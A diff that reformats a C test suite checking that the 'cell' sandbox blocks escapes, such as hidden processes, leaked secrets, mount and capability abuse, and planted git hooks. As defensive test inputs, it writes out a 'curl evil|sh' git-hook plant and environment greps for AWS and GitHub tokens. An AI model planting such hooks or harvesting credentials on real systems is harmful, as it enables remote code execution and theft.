@@ -27,8 +27,7 @@
 #define PROBE CELL_TEST_BUILD "/test-probe"
 #define TEST_USER "celltest"
 
-static const char default_config[] =
-	"{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}\n";
+static const char default_config[] = "{\"name\": \"esc\", \"network\": {\"mode\": \"none\"}}\n";
 
 static struct {
 	char *tmp, *home, *proj, *outside;
@@ -60,7 +59,8 @@ static void find_user(void)
 	}
 	for (int i = 0; i < 50 && !(pw = getpwnam(TEST_USER)); i++) {
 		char *argv[] = {(char *)"/usr/sbin/useradd", (char *)"--create-home",
-				(char *)"--shell", (char *)"/bin/bash", (char *)TEST_USER, NULL};
+				(char *)"--shell",	     (char *)"/bin/bash",
+				(char *)TEST_USER,	     NULL};
 		struct th_result r;
 
 		th_run(NULL, argv, (char *[]){NULL}, &r);
@@ -158,8 +158,8 @@ TestSuite(escape, .init = setup, .fini = teardown, .timeout = 60);
 static struct th_result in_cell_at(const char *dir, const char *script)
 {
 	char *cwd = dir ? th_join(t.proj, dir) : strdup(t.proj);
-	char *argv[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"/bin/sh", (char *)"-c",
-			(char *)script, NULL};
+	char *argv[] = {(char *)CELL, (char *)"run",  (char *)"--", (char *)"/bin/sh",
+			(char *)"-c", (char *)script, NULL};
 	struct th_result r;
 
 	th_run_as(t.uid, t.gid, cwd, argv, t.env, &r);
@@ -237,9 +237,10 @@ Test(escape, home_is_private_but_rc_files_are_there_read_only)
 {
 	char script[512];
 
-	snprintf(script, sizeof(script),
-		 "ls -A %s | sort | tr '\\n' ' '; cat %s/.gitconfig | head -1; echo x >> %s/.bashrc",
-		 t.home, t.home, t.home);
+	snprintf(
+		script, sizeof(script),
+		"ls -A %s | sort | tr '\\n' ' '; cat %s/.gitconfig | head -1; echo x >> %s/.bashrc",
+		t.home, t.home, t.home);
 	expect(in_cell(script), 2, ".bashrc .gitconfig [user]\n");
 }
 
@@ -285,8 +286,8 @@ Test(escape, project_is_writable_and_visible_outside)
 
 Test(escape, git_hook_cannot_be_planted)
 {
-	expect(outside("echo ok > .git/hooks/probe-write && rm .git/hooks/probe-write && echo ok"), 0,
-	       "ok\n");
+	expect(outside("echo ok > .git/hooks/probe-write && rm .git/hooks/probe-write && echo ok"),
+	       0, "ok\n");
 	expect(in_cell("echo 'curl evil|sh' > .git/hooks/post-checkout"), 2, "");
 	cr_assert(not(host_has("proj/.git/hooks/post-checkout")));
 }
@@ -341,7 +342,8 @@ Test(escape, outer_processes_are_invisible)
 	struct th_result grep, ps;
 
 	/* "3133[7]" does not match the script's own command line */
-	grep = in_cell("grep -l '3133[7]' /proc/[0-9]*/cmdline 2>/dev/null | grep -v self; echo none");
+	grep = in_cell(
+		"grep -l '3133[7]' /proc/[0-9]*/cmdline 2>/dev/null | grep -v self; echo none");
 	/* ps alone, so the pipeline's other processes are not in the picture */
 	ps = in_cell("ps -e -o comm= > /tmp/ps; sort /tmp/ps | tr '\\n' ' '");
 	kill(pid, SIGKILL);
@@ -420,14 +422,16 @@ Test(escape, secrets_in_the_environment_stay_out)
 {
 	expect(in_cell("env | grep -E '^(AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN|SSH_AUTH_SOCK)=' ; echo $EDITOR $CELL_NAME"),
 	       0, "vi esc\n");
-	set_config("{\"name\": \"esc\", \"env\": {\"pass\": [\"GITHUB_TOKEN\"], \"set\": {\"MODE\": \"dev\"}}}");
+	set_config(
+		"{\"name\": \"esc\", \"env\": {\"pass\": [\"GITHUB_TOKEN\"], \"set\": {\"MODE\": \"dev\"}}}");
 	expect(in_cell("echo $GITHUB_TOKEN $MODE $AWS_SECRET_ACCESS_KEY"), 0, "ghp_not_real dev\n");
 }
 
 Test(escape, cell_variables_are_set)
 {
 	char want[512];
-	struct th_result r = in_cell("echo \"$CELL_NAME|$CELL_ROOT|$HOME|$(hostname)\"; echo $CELL_ID");
+	struct th_result r =
+		in_cell("echo \"$CELL_NAME|$CELL_ROOT|$HOME|$(hostname)\"; echo $CELL_ID");
 
 	snprintf(want, sizeof(want), "esc|%s|%s|cell-esc\nproj-", t.proj, t.home);
 	cr_assert(eq(int, strncmp(r.out, want, strlen(want)), 0), "%s", r.out);
@@ -505,9 +509,10 @@ Test(escape, no_mounts_and_no_capabilities_even_with_overlays)
 	{
 		char json[512];
 
-		snprintf(json, sizeof(json),
-			 "{\"mounts\": [{\"path\": \"%s/lower\", \"dest\": \"%s/lower\", \"mode\": \"overlay\"}]}",
-			 t.tmp, t.home);
+		snprintf(
+			json, sizeof(json),
+			"{\"mounts\": [{\"path\": \"%s/lower\", \"dest\": \"%s/lower\", \"mode\": \"overlay\"}]}",
+			t.tmp, t.home);
 		set_config(json);
 	}
 	expect(in_cell("./probe mount; ./probe remount-usr; grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | tr -d '\\t'"),
@@ -519,10 +524,11 @@ Test(escape, state_mount_persists_across_cells)
 {
 	char json[256], script[256];
 
-	snprintf(json, sizeof(json), "{\"mounts\": [{\"path\": \"~/.cache/tool\", \"mode\": \"state\"}]}");
+	snprintf(json, sizeof(json),
+		 "{\"mounts\": [{\"path\": \"~/.cache/tool\", \"mode\": \"state\"}]}");
 	set_config(json);
-	snprintf(script, sizeof(script), "echo run >> %s/.cache/tool/log; cat %s/.cache/tool/log", t.home,
-		 t.home);
+	snprintf(script, sizeof(script), "echo run >> %s/.cache/tool/log; cat %s/.cache/tool/log",
+		 t.home, t.home);
 	expect(in_cell(script), 0, "run\n");
 	expect(in_cell(script), 0, "run\nrun\n");
 	/* the real ~/.cache/tool is not where it went */
@@ -535,12 +541,13 @@ Test(escape, overlay_writes_never_reach_the_source)
 
 	free(th_write(t.tmp, "shared/lib.txt", "original\n"));
 	th_chown_r(t.tmp, t.uid, t.gid);
-	snprintf(json, sizeof(json), "{\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\"}]}",
-		 t.tmp);
+	snprintf(json, sizeof(json),
+		 "{\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\"}]}", t.tmp);
 	set_config(json);
-	snprintf(script, sizeof(script),
-		 "echo patched > %s/shared/lib.txt; echo new > %s/shared/new.txt; cat %s/shared/lib.txt",
-		 t.tmp, t.tmp, t.tmp);
+	snprintf(
+		script, sizeof(script),
+		"echo patched > %s/shared/lib.txt; echo new > %s/shared/new.txt; cat %s/shared/lib.txt",
+		t.tmp, t.tmp, t.tmp);
 	expect(in_cell(script), 0, "patched\n");
 	s = host_read("shared/lib.txt");
 	cr_assert(eq(str, s, "original\n"));
@@ -557,9 +564,10 @@ Test(escape, ephemeral_overlay_forgets)
 
 	free(th_write(t.tmp, "shared/lib.txt", "original\n"));
 	th_chown_r(t.tmp, t.uid, t.gid);
-	snprintf(json, sizeof(json),
-		 "{\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\", \"ephemeral\": true}]}",
-		 t.tmp);
+	snprintf(
+		json, sizeof(json),
+		"{\"mounts\": [{\"path\": \"%s/shared\", \"mode\": \"overlay\", \"ephemeral\": true}]}",
+		t.tmp);
 	set_config(json);
 	snprintf(script, sizeof(script), "cat %s/shared/lib.txt; echo patched > %s/shared/lib.txt",
 		 t.tmp, t.tmp);
@@ -593,8 +601,9 @@ Test(escape, read_only_and_read_write_mounts)
 		 "{\"path\": \"%s/absent\", \"optional\": true}]}",
 		 t.tmp, t.tmp, t.tmp);
 	set_config(json);
-	snprintf(script, sizeof(script), "cat %s/data/in.txt; echo x > %s/out/result; echo y > %s/data/in.txt",
-		 t.tmp, t.tmp, t.tmp);
+	snprintf(script, sizeof(script),
+		 "cat %s/data/in.txt; echo x > %s/out/result; echo y > %s/data/in.txt", t.tmp,
+		 t.tmp, t.tmp);
 	expect(in_cell(script), 2, "data\n");
 	cr_assert(host_has("out/result"));
 }
@@ -617,13 +626,14 @@ Test(escape, two_mounts_at_one_place_are_an_error_naming_both)
 {
 	struct th_result r;
 
-	set_config("{\"mounts\": [{\"path\": \"./a\", \"dest\": \"/opt/x\", \"optional\": true, \"mode\": \"tmpfs\"}, "
-		   "{\"path\": \"/usr\", \"dest\": \"/opt/x\"}]}");
+	set_config(
+		"{\"mounts\": [{\"path\": \"./a\", \"dest\": \"/opt/x\", \"optional\": true, \"mode\": \"tmpfs\"}, "
+		"{\"path\": \"/usr\", \"dest\": \"/opt/x\"}]}");
 	r = in_cell("true");
 	cr_assert(eq(int, r.status, 2));
 	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[0] and "), NULL)), "%s", r.err);
-	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[1] both mount '/opt/x'"), NULL)), "%s",
-		  r.err);
+	cr_assert(not(eq(ptr, strstr(r.err, ".cell.json: mounts[1] both mount '/opt/x'"), NULL)),
+		  "%s", r.err);
 	th_result_done(&r);
 }
 
@@ -648,7 +658,11 @@ Test(escape, working_directory_is_kept)
 Test(escape, sigterm_reaches_the_command)
 {
 	char *ready = th_join(t.proj, "ready"), *got;
-	char *argv[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"/bin/sh", (char *)"-c",
+	char *argv[] = {(char *)CELL,
+			(char *)"run",
+			(char *)"--",
+			(char *)"/bin/sh",
+			(char *)"-c",
 			(char *)"trap 'echo TERM > got; exit 3' TERM; echo > ready; "
 				"while :; do sleep 0.1; done",
 			NULL};
@@ -669,8 +683,10 @@ Test(escape, sigterm_reaches_the_command)
 Test(escape, paths_with_spaces_and_quotes)
 {
 	char *dir = th_join(t.tmp, "it's a \"project\" -x");
-	char *argv[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"/bin/sh", (char *)"-c",
-			(char *)"pwd; echo ok > 'out file'", NULL};
+	char *argv[] = {(char *)CELL, (char *)"run",
+			(char *)"--", (char *)"/bin/sh",
+			(char *)"-c", (char *)"pwd; echo ok > 'out file'",
+			NULL};
 	char *allow[] = {(char *)CELL, (char *)"allow", NULL};
 	char want[512];
 	struct th_result r;
@@ -704,9 +720,10 @@ Test(escape, an_untrusted_config_never_runs)
 
 Test(escape, root_is_refused_without_a_user_and_dropped_with_one)
 {
-	char *refuse[] = {(char *)CELL, (char *)"run", (char *)"--", (char *)"id", (char *)"-u", NULL};
-	char *as_user[] = {(char *)CELL, (char *)"run",	(char *)"--user", (char *)TEST_USER,
-			   (char *)"--", (char *)"id",	(char *)"-u", NULL};
+	char *refuse[] = {(char *)CELL, (char *)"run", (char *)"--",
+			  (char *)"id", (char *)"-u",  NULL};
+	char *as_user[] = {(char *)CELL, (char *)"run", (char *)"--user", (char *)TEST_USER,
+			   (char *)"--", (char *)"id",	(char *)"-u",	  NULL};
 	char *user_home_env[4] = {NULL}, want[32];
 	struct th_result r;
 
@@ -714,7 +731,9 @@ Test(escape, root_is_refused_without_a_user_and_dropped_with_one)
 		th_skip("the root rule needs root");
 	th_run(t.proj, refuse, t.env, &r);
 	cr_assert(eq(int, r.status, 1));
-	cr_assert(eq(str, r.err, "cell: refusing to run a cell as root; name its user with --user NAME (or pass --allow-root)\n"));
+	cr_assert(eq(
+		str, r.err,
+		"cell: refusing to run a cell as root; name its user with --user NAME (or pass --allow-root)\n"));
 	th_result_done(&r);
 
 	/* as the user, with the user's own home: allow there, then run from root with --user */
